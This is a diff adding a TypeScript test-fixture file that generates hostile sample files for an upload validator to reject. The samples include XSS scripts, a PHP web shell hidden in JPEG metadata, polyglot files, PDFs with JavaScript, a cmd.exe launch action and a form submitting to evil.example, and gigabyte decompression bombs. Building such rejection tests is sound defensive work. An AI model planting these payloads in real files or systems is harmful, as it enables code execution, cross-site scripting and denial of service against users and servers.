@@ -1,0 +1,241 @@
+import { randomBytes } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
+import { PDFDocument } from '@cantoo/pdf-lib';
+import {
+  ascii,
+  jpeg,
+  kitPdf,
+  libPdf,
+  packedZeros,
+  pagePdf,
+  pdfOf,
+  picture,
+  png,
+  pngOf,
+  resized,
+  streamOf,
+  withChunk,
+  withSegment,
+  type Sample,
+} from './pieces.js';
+
+const HTML = '<html><body><script>alert(document.domain)</script></body></html>';
+/** An empty archive with one file in it. */
+const ZIP = Buffer.from(
+  '504b03040a00000000000000210000000000000000000000000001000000' +
+    '61504b01020a000a000000000000002100000000000000000000000000010000000000000000000000000000000000' +
+    '61504b050600000000010001002f0000001f0000000000',
+  'hex',
+);
+const half = (file: Buffer) => file.subarray(0, file.length / 2);
+const behind = (file: Buffer, more: Buffer | string) => Buffer.concat([file, Buffer.from(more as string)]);
+
+/** Nothing of these is one of our types: 415. */
+export const OTHER_TYPES: readonly Sample[] = [
+  ['a program of Windows', () => Buffer.concat([ascii('MZ\x90\0'), randomBytes(500)])],
+  ['a program of Linux', () => Buffer.concat([ascii('\x7fELF\x02\x01\x01'), randomBytes(500)])],
+  ['an archive', () => ZIP],
+  ['a page', () => ascii(HTML)],
+  [
+    'a drawing with a script',
+    () => ascii(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
+  ],
+  ['a GIF', () => picture().gif().toBuffer()],
+  ['a GIF that is also a script', () => ascii('GIF89a/*\0\0*/=1;alert(1)')],
+  ['a WebP', () => picture().webp().toBuffer()],
+  ['a TIFF', () => picture().tiff().toBuffer()],
+  ['a text', () => ascii('just a text')],
+  ['noise', () => randomBytes(5000)],
+  ['zeros', () => Buffer.alloc(5000)],
+  ['a PDF behind a page', () => Buffer.concat([ascii(HTML), pagePdf()])],
+  ['a PDF behind an archive', () => Buffer.concat([ZIP, pagePdf()])],
+  ['a PDF behind one byte', () => Buffer.concat([ascii(' '), pagePdf()])],
+];
+
+export const HOSTILE_IMAGES: readonly Sample[] = [
+  ['half a JPEG', async () => half(await jpeg())],
+  ['the beginning of a JPEG', () => Buffer.from('ffd8ffe000104a46494600010100', 'hex')],
+  ['a JPEG with a page behind it', async () => behind(await jpeg(), HTML)],
+  ['a JPEG with an archive behind it', async () => behind(await jpeg(), ZIP)],
+  ['a JPEG with a PDF behind it', async () => behind(await jpeg(), pagePdf())],
+  ['two JPEGs without a word', async () => behind(await jpeg(), await jpeg())],
+  [
+    'a JPEG that announces another and has a page',
+    async () => behind(withSegment(await jpeg(), 0xe2, ascii('MPF\0')), HTML),
+  ],
+  ['a JPEG with a page in its comment', async () => withSegment(await jpeg(), 0xfe, ascii(HTML))],
+  [
+    'a JPEG with PHP in its notes',
+    async () => withSegment(await jpeg(), 0xe1, ascii('Exif\0\0<?php system($_GET[0]);')),
+  ],
+  ['a JPEG with an archive in its comment', async () => withSegment(await jpeg(), 0xfe, ZIP)],
+  ['a JPEG of 65,000 x 65,000', async () => resized(await jpeg(), 65_000, 65_000)],
+  [
+    'a progressive JPEG of 9,000 x 9,000',
+    async () => resized(await picture().jpeg({ progressive: true }).toBuffer(), 9000, 9000),
+  ],
+  ['a JPEG of no height', async () => resized(await jpeg(), 100, 0)],
+  ['a JPEG without pixels', () => Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')],
+  ['half a PNG', async () => half(await png())],
+  ['a PNG with a page behind it', async () => behind(await png(), HTML)],
+  ['a PNG with an archive behind it', async () => behind(await png(), ZIP)],
+  ['a PNG with a script in its notes', async () => withChunk(await png(), 'tEXt', ascii(`Comment\0${HTML}`))],
+  [
+    'a PNG with a drawing in its notes',
+    async () => withChunk(await png(), 'iTXt', ascii('a\0\0\0\0\0<svg onload=alert(1)>')),
+  ],
+  [
+    'a PNG whose pixels spell a script',
+    () => pngOf(800, 1, deflateSync(ascii(`\0${HTML.padEnd(100)}`), { level: 0 })),
+  ],
+  ['a PNG of 50,000 x 50,000', () => pngOf(50_000, 50_000, packedZeros(300))],
+  ['a PNG of 60,000 x 60,000 without pixels', () => pngOf(60_000, 60_000, deflateSync(Buffer.alloc(10)))],
+  ['an interlaced PNG of 8,000 x 8,000', () => pngOf(8000, 8000, packedZeros(8), true)],
+  ['a PNG with too few pixels', () => pngOf(500, 500, deflateSync(Buffer.alloc(100)))],
+  ['a PNG of no width', () => pngOf(0, 10, deflateSync(Buffer.alloc(10)))],
+  [
+    'a PNG with a flipped bit',
+    async () => {
+      const file = await png();
+      const at = Math.floor(file.length / 2);
+      file[at] = (file[at] ?? 0) ^ 1;
+      return file;
+    },
+  ],
+];
+
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+
+export const ACTIVE_PDFS: readonly Sample[] = [
+  ['a script on opening', () => pagePdf({ catalog: `/OpenAction ${script}` })],
+  [
+    'a script of the document',
+    () => pagePdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', more: [script] }),
+  ],
+  ['a script of a page', () => pagePdf({ page: `/AA << /O ${script} >>` })],
+  [
+    'a script under a written-out name',
+    () => pagePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }),
+  ],
+  ['a script in packed objects', () => libPdf((pdf) => pdf.addJavaScript('a', 'app.alert(1)'))],
+  ['a script without a kind', () => pagePdf({ page: '/A << /JS 4 0 R >>', more: ['(app.alert\\(1\\))'] })],
+  [
+    'a script hidden in a false stream',
+    () => pagePdf({ more: ['<< /A (>>\nstream\n) >>', script, streamOf(ascii('x'), '')] }),
+  ],
+  ['a program to launch', () => pagePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
+  [
+    'a file inside',
+    () => libPdf((pdf) => pdf.attach(ascii('MZ'), 'a.exe', { mimeType: 'application/octet-stream' })),
+  ],
+  ['a file inside, by pdfkit', () => kitPdf({}, (pdf) => void pdf.file(ascii(HTML), { name: 'a.html' }))],
+  ['a film', () => pagePdf({ page: '/Annots [<< /Subtype /RichMedia >>]' })],
+  [
+    'a form of another kind',
+    () => pagePdf({ catalog: '/AcroForm << /XFA 4 0 R >>', more: [streamOf(ascii('<xdp/>'), '')] }),
+  ],
+  [
+    'a form that sends itself',
+    () => pagePdf({ page: '/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>' }),
+  ],
+  ['data to fetch', () => pagePdf({ page: '/AA << /O << /S /ImportData /F (x) >> >>' })],
+  ['an address to open', () => pagePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example) >>' })],
+  [
+    'an address to open, elsewhere',
+    () => pagePdf({ catalog: '/OpenAction 4 0 R', more: ['<< /S /URI /URI (http://x) >>'] }),
+  ],
+];
+
+export const INFLATING_PDFS: readonly Sample[] = [
+  ['a page of 1 GB', () => pagePdf({ page: '/Contents 4 0 R', more: [streamOf(packedZeros(1000))] })],
+  [
+    'a page of 1 GB that says nothing of it',
+    () => pagePdf({ page: '/Contents 4 0 R', more: [streamOf(packedZeros(1000), '')] }),
+  ],
+  [
+    'a page of 1 GB, packed twice',
+    () =>
+      pagePdf({ more: [streamOf(deflateSync(packedZeros(1000)), '/Filter [/FlateDecode /FlateDecode]')] }),
+  ],
+  [
+    'a page of 1 GB in letters',
+    () =>
+      pagePdf({
+        more: [
+          streamOf(ascii(`${packedZeros(1000).toString('hex')}>`), '/Filter [/ASCIIHexDecode /FlateDecode]'),
+        ],
+      }),
+  ],
+  [
+    'ten pages of 30 MB',
+    () => pagePdf({ more: Array.from({ length: 10 }, () => streamOf(packedZeros(30))) }),
+  ],
+  [
+    'objects of 1 GB',
+    () =>
+      pagePdf({ more: [streamOf(packedZeros(1000), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')] }),
+  ],
+  [
+    'objects of 50 MB',
+    () => pagePdf({ more: [streamOf(packedZeros(50), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')] }),
+  ],
+];
+
+export const POLYGLOT_PDFS: readonly Sample[] = [
+  ['a PDF that is also a page', () => ascii(pagePdf().toString('latin1').replace('\n%', `\n${HTML}\n%`))],
+  [
+    'a PDF with a page in a remark',
+    () => ascii(pagePdf().toString('latin1').replace('xref', `%${HTML}\nxref`)),
+  ],
+  ['a PDF with a page behind it', () => behind(pagePdf(), HTML)],
+  ['a PDF with an archive behind it', () => behind(pagePdf(), ZIP)],
+  ['a PDF with an archive inside', () => behind(pagePdf({ more: [streamOf(ZIP, '')] }), '')],
+  [
+    'a PDF with an archive between its objects',
+    () =>
+      ascii(
+        pagePdf()
+          .toString('latin1')
+          .replace('xref', `${ZIP.toString('latin1')}\nxref`),
+      ),
+  ],
+  [
+    'a PDF with PHP at its beginning',
+    () => ascii(pagePdf().toString('latin1').replace('\n%', `\n%<?php system(1); ?>\n%`)),
+  ],
+  ['a PDF with noise behind it', () => behind(pagePdf(), randomBytes(100))],
+];
+
+export const BROKEN_PDFS: readonly Sample[] = [
+  ['a first line', () => ascii('%PDF-1.7\n')],
+  ['a first line and a last', () => ascii('%PDF-1.7\n%%EOF')],
+  ['half a PDF', async () => half(await libPdf((pdf) => pdf.addPage().drawText('x'.repeat(2000))))],
+  ['no pages', () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
+  ['no catalog', () => pdfOf(['<< /Type /Nothing >>'])],
+  [
+    'pages in a circle',
+    () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
+  ],
+  ['a nest of a million lists', () => pagePdf({ more: ['['.repeat(1_000_000)] })],
+  ['a million empty dictionaries', () => pagePdf({ more: ['<<'.repeat(1_000_000)] })],
+  [
+    'objects packed in an odd way',
+    () => pagePdf({ more: [streamOf(randomBytes(50), '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode')] }),
+  ],
+  ['noise in the middle', () => Buffer.concat([ascii('%PDF-1.7\n'), randomBytes(100_000), ascii('\n%%EOF')])],
+];
+
+/** Made with pdfkit, since it knows how: with a password to open, and with one to change alone. */
+export const PROTECTED_PDFS: readonly Sample[] = [
+  ['a password to open it', () => kitPdf({ userPassword: 'secret' }, (pdf) => void pdf.text('x'))],
+  ['a password to change it', () => kitPdf({ ownerPassword: 'secret' }, (pdf) => void pdf.text('x'))],
+  [
+    'a password, by pdf-lib',
+    async () => {
+      const pdf = await PDFDocument.create();
+      pdf.addPage();
+      pdf.encrypt({ userPassword: 'secret', ownerPassword: 'other' });
+      return Buffer.from(await pdf.save());
+    },
+  ],
+];
